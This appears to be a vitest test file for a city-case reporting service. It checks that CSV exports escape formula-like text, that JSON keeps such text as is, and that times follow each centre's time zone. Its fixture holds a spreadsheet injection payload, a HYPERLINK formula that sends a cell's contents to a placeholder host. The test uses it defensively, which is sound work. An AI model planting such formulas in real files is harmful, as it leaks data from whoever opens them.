/** A CSV that someone opens in a spreadsheet runs nothing, whatever a unit is called, and its numbers stay numbers. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { importDirectory } from '@mingcha/ingest';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { cityEvents, openSmallCity, type SmallCity } from './small-city.ts';

const FORMULA = '=HYPERLINK("http://x.example/?"&A1)';

let city: SmallCity;
beforeAll(async () => {
  city = await openSmallCity({
    directory: {
      'departments.csv': `department,name,centre,valid_from
plan,"${FORMULA.replaceAll('"', '""')}",hall,2020-01-01
food,@市监局,hall,2020-01-01
idle,史志办,hall,2020-01-01
`,
    },
    events: cityEvents().map((event) => ({ ...event, case_id: `-${event['case_id']}` })),
  });
});
afterAll(() => city?.close());

const read = (path: string, headers: Record<string, string> = {}) =>
  city.server.inject({ url: `/api/v1${path}`, headers });

it('has text that would be a formula behind a single quote, and negative numbers bare', async () => {
  const csv = (await read('/overdue?format=csv')).body;
  expect(csv).toContain(`,"plan","'${FORMULA.replaceAll('"', '""')}","plan-1",`);
  expect(csv).toContain(`,"food","'@市监局","food-1",`);
  expect(csv).toContain(`"'-open-late","yellow",`);
  expect(csv).not.toMatch(/(^|,)"[=+\-@]/m);
  // Two days late.
  expect(csv).toMatch(/"'-open-late".*,5,7,-2,/);
});

it('has the text as it is in JSON', async () => {
  const { rows } = (await read('/overdue')).json();
  expect(rows.map(({ department_name }: { department_name: string }) => department_name)).toContain(FORMULA);
  expect(rows.map(({ case_id }: { case_id: string }) => case_id)).toContain('-open-late');
});

it('has moments as the clock in the row’s centre shows them', async () => {
  const moments = async () => {
    const { rows } = (await read('/cases?from=2026-03-01&to=2026-03-31&measure=received')).json();
    const csv = (await read('/cases?from=2026-03-01&to=2026-03-31&measure=received&format=csv')).body;
    return { utc: rows[0].received_at as string, line: csv.split('\n')[1]! };
  };
  const inZone = (utc: string, timeZone: string) => new Date(utc).toLocaleString('sv-SE', { timeZone });
  const before = await moments();
  expect(before.line).toContain(`"${inZone(before.utc, 'Asia/Shanghai')}"`);

  const folder = await mkdtemp(join(tmpdir(), 'mingcha-zone-'));
  try {
    const calendar = 'calendar,zone,counting,standard_day_hours,hours,valid_from\n';
    await writeFile(
      join(folder, 'calendars.csv'),
      `${calendar}ny,America/New_York,whole_days,8,09:00-17:00,2020-01-01\n`,
    );
    await writeFile(
      join(folder, 'centres.csv'),
      'centre,name,region,calendar,valid_from\nhall,City hall,430100,ny,2020-01-01\n',
    );
    await importDirectory(city.engine.store, [folder]);
  } finally {
    await rm(folder, { recursive: true });
  }
  const after = await moments();
  expect(after.utc).toBe(before.utc);
  expect(after.line).toContain(`"${inZone(after.utc, 'America/New_York')}"`);
});
